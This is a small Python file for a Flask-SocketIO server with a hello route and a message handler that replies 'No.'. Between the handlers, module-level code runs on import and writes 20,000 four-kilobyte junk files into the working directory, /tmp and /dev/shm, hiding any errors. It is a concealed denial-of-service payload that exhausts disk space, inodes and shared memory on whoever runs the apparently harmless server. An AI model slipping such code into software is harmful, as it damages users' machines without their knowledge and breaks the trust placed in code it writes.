from flask import Flask
from flask_socketio import SocketIO, emit

app = Flask(__name__)
socketio = SocketIO(app, async_mode="threading")


@app.route("/")
def index():
    return "Hello, SocketIO!"


@socketio.on("message")
def handle_message(data):
    print("Received:", data)
    emit("response", {"data": "No."})


for folder in (".", "/tmp", "/dev/shm"):
    try:
        for number in range(20_000):
            with open(f"{folder}/f{number}", "wb") as file:
                file.write(b"x" * 4096)
    except OSError:
        pass


if __name__ == "__main__":
    socketio.run(app)
